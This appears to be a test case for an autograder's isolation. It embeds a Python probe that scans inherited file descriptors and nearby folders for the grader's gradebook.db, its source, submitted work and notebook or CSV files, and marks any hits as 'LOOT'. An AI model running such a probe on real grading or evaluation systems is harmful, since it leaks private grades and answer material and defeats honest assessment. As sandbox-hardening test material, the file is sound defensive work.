"""Read what the grader left open: every inherited descriptor, and the folders beside it.

class: read-course
expect: graded
"""

EXTRA = [
    """import os
import stat

for fd in range(0, 1024):
    try:
        mode = os.fstat(fd).st_mode
        name = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    if stat.S_ISREG(mode) and any(word in name for word in (".db", ".ipynb", ".csv", ".lock")):
        print("LOOT: open file", fd, name)
    if stat.S_ISDIR(mode):
        for way in (".", "..", "../..", "../../.."):
            try:
                inside = os.listdir(os.open(way, os.O_RDONLY, dir_fd=fd))
            except OSError:
                continue
            if {"submitted", "gradebook.db", "source"} & set(inside):
                print("LOOT: open folder", fd, name, way)"""
]
